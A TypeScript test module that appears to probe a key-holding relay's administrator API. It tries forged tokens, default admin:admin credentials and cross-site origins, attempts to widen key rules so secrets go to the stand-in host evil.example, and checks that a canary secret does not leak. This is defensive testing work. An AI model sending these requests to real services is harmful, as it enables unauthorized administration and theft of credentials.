import { administratorHeader, userHeader, type Attacker, type Sent } from '../attacker.ts'
import type { Target } from '../target.ts'
import { vector, type Vector } from '../vector.ts'

const administrator = { [administratorHeader]: 'yes' }
const foreign = 'https://evil.example'
const registered = 'attack-registered'

/** Rows 1, 12 and 15 at the administrator routes. */
export function administration(targets: readonly Target[]): Vector[] {
  const target = targets[0]!
  return [...asStrangers(target), ...byWiderRules(target), ...ofRegisteredKeys(target), ...byWiderReach(target)]
}

const strangers: [who: string, sent: Sent][] = [
  ['nobody', { as: 'nobody' }],
  ['a visitor', { as: 'visitor' }],
  ['a user', {}],
  ['a user named administrator', { as: 'nobody', headers: { [userHeader]: 'administrator' } }],
  ['a made-up token', { headers: { authorization: 'Bearer administrator' } }],
  ['an empty token', { headers: { authorization: 'Bearer ' } }],
  ['the token "undefined"', { headers: { authorization: 'Bearer undefined' } }],
  ['a name and a password', { headers: { authorization: `Basic ${btoa('admin:admin')}` } }],
  ["a page of another site, in an administrator's browser", { headers: { ...administrator, origin: foreign } }],
  [
    "a sister site, in an administrator's browser",
    { headers: { ...administrator, origin: 'https://sister.example', 'sec-fetch-site': 'same-site' } },
  ],
  [
    "a sandboxed frame, in an administrator's browser",
    { headers: { ...administrator, origin: 'null', 'sec-fetch-site': 'cross-site' } },
  ],
]

/** The administrator routes, with their bodies. */
function doors({ keyName, rule }: Target): [method: string, path: string, body?: object][] {
  const allow = [{ ...rule, url: `${foreign}/**` }]
  return [
    ['GET', '/keys'],
    ['GET', '/audit'],
    ['GET', '/metrics'],
    ['GET', `/keys/${keyName}/requests`],
    ['POST', '/keys/check', { name: registered, locked: false, allow, isNew: true }],
    ['PUT', `/keys/${registered}`, { secret: 'made-up-by-the-attacker', locked: false, allow, isNew: true }],
    ['PUT', `/keys/${keyName}`, { locked: false, allow, isNew: false }],
    ['DELETE', `/keys/${keyName}`],
  ]
}

const json = { 'content-type': 'application/json' }

const knock = (attacker: Attacker, method: string, path: string, { as, headers }: Sent, body?: unknown) =>
  attacker.ask(
    method,
    path,
    { ...(as && { as }), headers: { ...(body !== undefined && json), ...headers } },
    body === undefined ? undefined : typeof body === 'string' ? body : JSON.stringify(body),
  )

function asStrangers(target: Target): Vector[] {
  return strangers.flatMap(([who, sent]) =>
    doors(target).map(([method, path, body]) =>
      vector(
        12,
        `${who}: ${method} ${path}`,
        async (attacker) => {
          const { status } = await knock(attacker, method, path, sent, body)
          if (status < 300) attacker.blame(`the relay did ${method} ${path} for ${who}`)
        },
        { mayCall: false, aim: 'other caller' },
      ),
    ),
  )
}

/** Tries to widen the rules of a key, and uses the key. */
function byWiderRules(target: Target): Vector[] {
  const change = { locked: false, allow: [{ ...target.rule, url: `${foreign}/**` }], isNew: false }
  const bodies: [how: string, body: unknown, sent?: Sent][] = [
    ...strangers.map(([who, sent]): [string, unknown, Sent] => [`by ${who}`, change, sent]),
    // Even an administrator can change a key of the config only in the config.
    ['by an administrator, of a key of the config', change, { headers: administrator }],
    [
      'by an administrator, over a key of the config',
      { ...change, secret: 'another-value', isNew: true },
      { headers: administrator },
    ],
  ]
  return bodies.map(([how, body, sent]) =>
    vector(
      1,
      `${target.title}: rules made wider ${how}`,
      async (attacker) => {
        await knock(attacker, 'PUT', `/keys/${target.keyName}`, sent ?? {}, body)
        await attacker.submit(target.baseline({ url: `${foreign}${target.path}` }))
      },
      { mayCall: false },
    ),
  )
}

/** An administrator registers a key, correctly or with the value in a wrong field. The value must not leak. */
function ofRegisteredKeys(target: Target): Vector[] {
  const { canary, rule } = target
  const right = { secret: canary, locked: false, allow: [rule], isNew: true }
  const kept = (name: string, aim: 'answer' | 'log' | 'database', body: unknown, key = registered) =>
    vector(
      15,
      `a registered key, ${name}: the ${aim}`,
      async (attacker) => {
        const sent = { headers: administrator }
        await knock(attacker, 'PUT', `/keys/${key}`, sent, body)
        for (const path of ['/keys', '/audit', '/metrics', `/keys/${registered}/requests`])
          await knock(attacker, 'GET', path, sent)
        // So that the next vector can register it again.
        await knock(attacker, 'DELETE', `/keys/${registered}`, sent)
      },
      { aim },
    )
  const mistakes: [name: string, body: unknown, key?: string][] = [
    ['the value in the url of a rule', { ...right, allow: [{ ...rule, url: `https://x.example/${canary}` }] }],
    ['the value as a host', { ...right, allow: [{ ...rule, url: `https://${canary}.example/` }] }],
    ['the value as a place', { ...right, allow: [{ ...rule, in: [`headers.${canary}`] }] }],
    ['the value as a method', { ...right, allow: [{ ...rule, methods: [canary] }] }],
    ['the value as the name of a field', { ...right, [canary]: true }],
    ['the value as a limit', { ...right, limits: { requestsPerMinute: canary } }],
    ['the value as its name', right, encodeURIComponent(canary)],
    ['JSON that breaks off', JSON.stringify(right).slice(0, -8)],
    ['the value as the whole body', JSON.stringify(canary)],
  ]
  return [
    ...(['database', 'log', 'answer'] as const).map((aim) => kept('as it should be', aim, right)),
    ...mistakes.flatMap(([name, body, key]) => (['log', 'answer'] as const).map((aim) => kept(name, aim, body, key))),
  ]
}

/** An administrator without the value tries to send it to a place that an API shows. */
function byWiderReach({ canary, url, scheme, host, port }: Target): Vector[] {
  const origin = `${scheme}//${host}${port}`
  const narrow = { url: `${origin}/v1/narrow/*`, methods: ['POST'], in: ['headers.authorization'] }
  const wider: [name: string, rule: object][] = [
    ['another host', { ...narrow, url: `${foreign}/v1/narrow/*` }],
    ['another place of the body', { ...narrow, in: ['headers.authorization', 'data#/prompt'] }],
    ['another header', { ...narrow, in: ['headers.user-agent'] }],
    ['a parameter', { ...narrow, in: ['params.q'] }],
    ['a wider path', { ...narrow, url: `${origin}/v1/**` }],
    ['another path', { ...narrow, url: `${origin}/v2/*` }],
    ['another method', { ...narrow, methods: ['POST', 'GET'] }],
  ]
  return wider.map(([name, rule]) =>
    vector(
      1,
      `a registered key may go further without its value: ${name} (of ${url})`,
      async (attacker) => {
        const sent = { headers: administrator }
        const put = (body: object) => knock(attacker, 'PUT', `/keys/${registered}`, sent, body)
        await put({ secret: canary, locked: false, allow: [narrow], isNew: true })
        const { status } = await put({ locked: false, allow: [rule], isNew: false })
        await knock(attacker, 'DELETE', `/keys/${registered}`, sent)
        if (status < 300) attacker.blame(`the relay accepted ${name} without the value`)
      },
      { mayCall: false, aim: 'other caller' },
    ),
  )
}
